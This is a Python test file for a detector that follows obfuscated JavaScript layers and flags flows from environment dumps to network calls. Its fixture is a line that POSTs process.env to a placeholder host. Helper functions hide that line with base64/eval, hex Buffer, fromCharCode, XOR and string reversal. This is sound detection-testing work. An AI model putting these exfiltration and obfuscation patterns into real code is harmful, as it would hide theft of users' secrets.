from __future__ import annotations

import base64
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.javascript.follow import MAX_DEPTH, MAX_PAYLOADS, TOO_LONG, follow
from assay.model.source import BehaviourKind

THEFT = "fetch('https://a.invalid', {method: 'POST', body: JSON.stringify(process.env)});"
PAIR = (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK)


def by_atob(code: str) -> str:
    return f"eval(atob('{base64.b64encode(code.encode()).decode()}'));"


def by_buffer(code: str) -> str:
    return f"new Function('require', Buffer.from('{code.encode().hex()}', 'hex').toString())(require);"


def by_codes(code: str) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in code)}));"


def by_key(code: str) -> str:
    codes = [ord(letter) ^ 7 for letter in code]
    return f"let o=''; const d={codes}; for (let i=0;i<d.length;i++) o+=String.fromCharCode(d[i]^7); eval(o);"


def by_reversing(code: str) -> str:
    return f"require('vm').runInThisContext(`{code[::-1]}`.split('').reverse().join(''));"


def written_to_a_file(code: str) -> str:
    encoded = base64.b64encode(code.encode()).decode()
    return (
        f"const p='{encoded}';require('fs').writeFileSync('a.js',Buffer.from(p,'base64'));process.env;fetch('x',env);"
    )


WAYS: tuple[Callable[[str], str], ...] = (by_atob, by_buffer, by_codes, by_key, by_reversing)


@pytest.mark.parametrize("way", [*WAYS, written_to_a_file], ids=lambda way: way.__name__)
def test_code_in_a_text_is_followed(way: Callable[[str], str]) -> None:
    found = follow("a.js", f"\n\n{way(THEFT)}".encode())
    flow = next(flow for flow in found.flows if (flow.source.kind, flow.sink.kind) == PAIR)
    assert flow.sink.location.line == flow.source.location.line == 3
    assert len(flow.hidden) == 1
    (layer,) = [layer for layer in found.layers if layer.decoded.startswith("fetch(")]
    assert (layer.location.line, layer.depth) == (3, 1)


@given(st.lists(st.sampled_from((by_atob, by_buffer, by_codes)), min_size=1, max_size=3))
@settings(deadline=None, max_examples=25)
def test_layers_in_layers_are_followed(ways: list[Callable[[str], str]]) -> None:
    code = THEFT
    for way in ways:
        code = way(code)
    found = follow("a.js", code.encode())
    steps = [flow.hidden for flow in found.flows if (flow.source.kind, flow.sink.kind) == PAIR]
    assert [len(each) for each in steps] == [len(ways)]
    assert [layer.depth for layer in found.layers] == list(range(1, len(ways) + 1))


def test_layers_end_where_the_limit_is() -> None:
    code = THEFT
    for _ in range(MAX_DEPTH + 2):
        code = by_atob(code)
    found = follow("a.js", code.encode())
    assert max(layer.depth for layer in found.layers) == MAX_DEPTH
    assert all((flow.source.kind, flow.sink.kind) != PAIR for flow in found.flows)


def test_many_texts_are_read_up_to_a_limit() -> None:
    code = "".join(by_atob(f"eval(atob(x{number}));") for number in range(3 * MAX_PAYLOADS))
    assert len(follow("a.js", code.encode()).layers) <= MAX_PAYLOADS


def test_a_text_that_runs_itself_ends() -> None:
    assert not follow("a.js", b"const a = 'eval(a); require(b)'; eval(a + '');").unread


@pytest.mark.parametrize(
    "code",
    [
        "eval(atob('aGVsbG8gd29ybGQ='));",
        "eval('a' + b);",
        "new Function('a', 'b', 'return ' + name);",
        "const logo = '" + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(200))).decode() + "'; eval(x); atob(y)",
        "const hash = '" + "ab" * 64 + "'; eval(x); atob(y)",
    ],
)
def test_texts_that_are_no_code_are_no_layers(code: str) -> None:
    assert follow("a.js", code.encode()).layers == []


def test_plain_code_has_no_steps() -> None:
    found = follow("a.js", THEFT.encode())
    assert [flow.hidden for flow in found.flows] == [()]
    assert found.layers == []


def test_a_theft_that_is_only_put_together_is_read() -> None:
    code = "fet@ch('https://a.inv@alid', {method: 'POST', body: JSON.string@ify(proc@ess.en@v)});"
    pieces = " + ".join(f'"{piece}"' for piece in code.split("@"))
    found = follow("a.js", f"eval({pieces});".encode())
    assert [(flow.source.kind, flow.sink.kind) for flow in found.flows] == [PAIR]
    assert len(found.layers) == 1


def test_a_text_that_is_too_long_to_compute_is_told() -> None:
    assert follow("a.js", b"eval(" + b"'a'+" * 100_000 + b"'a');").unread == TOO_LONG
    assert follow("a.js", b"eval('a' + unheard);").unread == ""
